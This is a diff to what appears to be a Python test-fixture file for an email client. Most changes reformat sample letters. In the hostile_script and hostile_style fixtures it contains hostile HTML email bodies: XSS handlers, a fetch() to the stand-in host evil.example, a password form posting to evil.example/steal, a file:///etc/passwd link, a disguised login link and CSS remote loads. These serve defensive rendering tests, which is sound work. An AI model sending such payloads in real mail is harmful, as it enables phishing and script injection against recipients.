@@ -20,7 +20,7 @@ LANGUAGES = (
     (
         "Änderung der Prüfgröße: Lagerkräfte",
         JONAS,
-        "Die Maße weichen um 3 mm ab. Bitte prüfen Sie die Übergangskonstruktion, Größe und Straßenhöhe.",
+        "Die Maße weichen um 3 mm ab. Bitte Übergangskonstruktion, Größe und Straßenhöhe prüfen.",
     ),
     (
         "橋脚の検査について",
@@ -102,14 +102,18 @@ def language(owner: Address, subject: str, sender: Address, text: str) -> Letter
 def hostile_script(owner: Address) -> Letter:
     """Return everything that must not run, load, open or leave."""
     host = "https://evil.example"
-    body = f"""<html><head><base href="{host}/"><meta http-equiv="refresh" content="0;url={host}/refresh">
+    body = f"""<html><head><base href="{host}/">
+<meta http-equiv="refresh" content="0;url={host}/refresh">
 <link rel="preconnect" href="{host}"><link rel="dns-prefetch" href="{host}">
-<link rel="stylesheet" href="{host}/a.css"><script src="{host}/a.js"></script><script>alert(1)</script></head>
+<link rel="stylesheet" href="{host}/a.css"><script src="{host}/a.js"></script>
+<script>alert(1)</script></head>
 <body onload="alert(2)" background="{host}/body.png"><p>Please see the attached statement.</p>
-<img src="x" onerror="fetch('{host}/onerror')"><svg onload="alert(3)"><image href="{host}/svg.png"/></svg>
+<img src="x" onerror="fetch('{host}/onerror')">
+<svg onload="alert(3)"><image href="{host}/svg.png"/></svg>
 <iframe src="{host}/frame"></iframe><object data="{host}/object"></object><embed src="{host}/embed">
 <form action="{host}/steal" method="post"><input name="password"><button>Sign in</button></form>
-<video poster="{host}/poster.png" src="{host}/v.mp4" autoplay></video><audio src="{host}/a.mp3"></audio>
+<video poster="{host}/poster.png" src="{host}/v.mp4" autoplay></video>
+<audio src="{host}/a.mp3"></audio>
 <a href="javascript:alert(4)">Statement</a> <a href="file:///etc/passwd">File</a>
 <a href="{host}/login">https://contoso.example/login</a>
 <math><mtext><style><img src=x onerror=alert(5)></style></mtext></math></body></html>"""
@@ -118,11 +122,14 @@ def hostile_script(owner: Address) -> Letter:
 
 def hostile_style(owner: Address) -> Letter:
     host = "https://evil.example"
-    body = f"""<html><head><style>@import '{host}/import.css'; @font-face {{ font-family:x; src:url({host}/font) }}
+    body = f"""<html><head><style>@import '{host}/import.css'; 
+@font-face {{ font-family:x; src:url({host}/font) }}
 div.a {{ background:\\75rl({host}/escaped) }} #b::after {{ content:url("{host}/content") }}
 body {{ position:fixed; top:-100px; cursor:url({host}/cursor), auto }}</style></head><body>
-<div style="background-image:url('{host}/inline.png'); position:fixed; inset:0; z-index:9999">Overlay</div>
-<div style="list-style:image-set('{host}/set.png' 1x)">List</div><p style="font-family:x">The price list is below.</p>
+<div style="background-image:url('{host}/inline.png');
+ position:fixed; inset:0; z-index:9999">Overlay</div>
+<div style="list-style:image-set('{host}/set.png' 1x)">List</div>
+<p style="font-family:x">The price list is below.</p>
 <table background="{host}/table.png"><tr><td>Steel</td></tr></table></body></html>"""
     return Letter("Price list with a lot of style", SECURITY, body, to=(owner,), is_focused=False)
 
